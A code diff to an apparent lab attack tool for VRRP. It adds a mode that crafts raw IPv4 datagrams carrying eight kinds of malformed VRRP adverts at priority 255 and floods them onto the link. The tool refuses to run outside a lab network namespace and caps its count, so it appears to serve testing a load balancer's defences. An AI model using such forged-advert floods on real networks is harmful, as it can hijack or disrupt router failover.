@@ -11,22 +11,37 @@ to it. It answers nothing: whatever it steals, it drops.
 It runs for ``--for`` seconds at most (``MAX_SECONDS`` whatever it is told), stops on
 SIGTERM/SIGINT, and refuses to run in the machine's own network namespace: attacks are
 for lab hosts. It prints ``sending`` when its first advert is out and, at the end, how
-many it sent.
+many it sent. With ``--spray N`` it sends, instead, N malformed adverts of each kind
+(``malformed``: bad TTL, checksum, length, count, version, type, auth type, size), all
+claiming priority 255, and prints how many of each as JSON.
 """
 
 from __future__ import annotations
 
 import argparse
+import json
 import signal
+import socket
+import struct
 import sys
 import time
 from ipaddress import IPv4Address
 
 from lablb.mail import in_own_netns
 from lablb.vrrp import ah, io
-from lablb.vrrp.packet import VRRP_GROUP, Advert, AuthType, Checksum
+from lablb.vrrp.packet import (
+    IPPROTO_VRRP,
+    VRRP_GROUP,
+    VRRP_TOS,
+    VRRP_TTL,
+    Advert,
+    AuthType,
+    Checksum,
+    inet_checksum,
+)
 
 MAX_SECONDS = 600.0
+MAX_SPRAY = 100_000  # datagrams of each kind
 
 
 def advert(vrid: int, priority: int, vips: list[IPv4Address], interval: float, version: int,
@@ -36,6 +51,60 @@ def advert(vrid: int, priority: int, vips: list[IPv4Address], interval: float, v
     auth_type = {"none": AuthType.NONE, "pass": AuthType.PASS, "ah": AuthType.AH}[kind]
     data = secret.encode()[:8] if auth_type is AuthType.PASS else b""
     return Advert(version, vrid, priority, tuple(vips), round(interval * 100), auth_type, data)
+
+
+SPRAY_KINDS = ("ttl", "checksum", "truncated", "count", "version", "type", "auth", "oversized")
+
+
+def malformed(kind: str, good: bytes, src: IPv4Address, dst: IPv4Address, ident: int) -> bytes:
+    """A whole IPv4 datagram carrying ``good`` (a valid VRRP message) spoilt one way:
+    TTL 64, a wrong checksum, cut short, an address count that lies, version 7, type 2,
+    an unknown auth type, or 1,400 bytes of trailing junk the count does not cover."""
+    msg = bytearray(good)
+    ttl = 64 if kind == "ttl" else VRRP_TTL
+    if kind == "checksum":
+        msg[6] ^= 0xFF
+    elif kind == "truncated":
+        msg = msg[: len(msg) // 2]
+    elif kind == "count":
+        msg[3] = 200
+    elif kind == "version":
+        msg[0] = 0x70 | (msg[0] & 0x0F)
+    elif kind == "type":
+        msg[0] = (msg[0] & 0xF0) | 2
+    elif kind == "auth":
+        msg[4] = 9
+    elif kind == "oversized":
+        msg += bytes(1400)
+    if kind in ("version", "type", "auth"):  # a valid checksum: the field itself is judged
+        msg[6:8] = b"\0\0"
+        msg[6:8] = inet_checksum(bytes(msg)).to_bytes(2, "big")
+    total = 20 + len(msg)
+    head = struct.pack("!BBHHHBBH4s4s", 0x45, VRRP_TOS, total, ident, 0, ttl, IPPROTO_VRRP, 0,
+                       src.packed, dst.packed)  # fmt: skip
+    head = head[:10] + inet_checksum(head).to_bytes(2, "big") + head[12:]
+    return head + bytes(msg)
+
+
+def spray(interface: str, source: IPv4Address, good: Advert, count: int) -> dict[str, int]:
+    """``count`` datagrams of each malformed kind, sent as fast as the link takes them."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, IPPROTO_VRRP)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
+    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+    wire = good.encode(source, VRRP_GROUP, Checksum.PSEUDO_HEADER)
+    sent: dict[str, int] = {}
+    try:
+        for kind in SPRAY_KINDS:
+            for i in range(count):
+                datagram = malformed(kind, wire, source, VRRP_GROUP, i % 0xFFFF + 1)
+                try:
+                    s.sendto(datagram, (str(VRRP_GROUP), 0))
+                    sent[kind] = sent.get(kind, 0) + 1
+                except OSError:
+                    time.sleep(0.001)  # the queue is full: a moment, then on
+    finally:
+        s.close()
+    return sent
 
 
 def main(argv: list[str] | None = None) -> int:
@@ -49,6 +118,8 @@ def main(argv: list[str] | None = None) -> int:
     p.add_argument("--auth", default="none", help="none | pass:PASSWORD | ah:KEY")
     p.add_argument("--no-garp", action="store_true", help="send no gratuitous ARP")
     p.add_argument("--for", dest="seconds", type=float, default=10.0)
+    p.add_argument("--spray", type=int, metavar="N",
+                   help="send N malformed adverts of each kind instead, then stop")  # fmt: skip
     args = p.parse_args(argv)
     if not in_own_netns():
         print("lablb-attacker: refusing to run in the machine's own namespace", file=sys.stderr)
@@ -63,6 +134,10 @@ def main(argv: list[str] | None = None) -> int:
     if source is None:
         print(f"lablb-attacker: {args.interface} has no IPv4 address", file=sys.stderr)
         return 2
+    if args.spray:
+        sprayed = spray(args.interface, source, msg, min(args.spray, MAX_SPRAY))
+        print(json.dumps(sprayed), flush=True)
+        return 0
     stop = {"now": False}
     for sig in (signal.SIGINT, signal.SIGTERM):
         signal.signal(sig, lambda *_: stop.update(now=True))
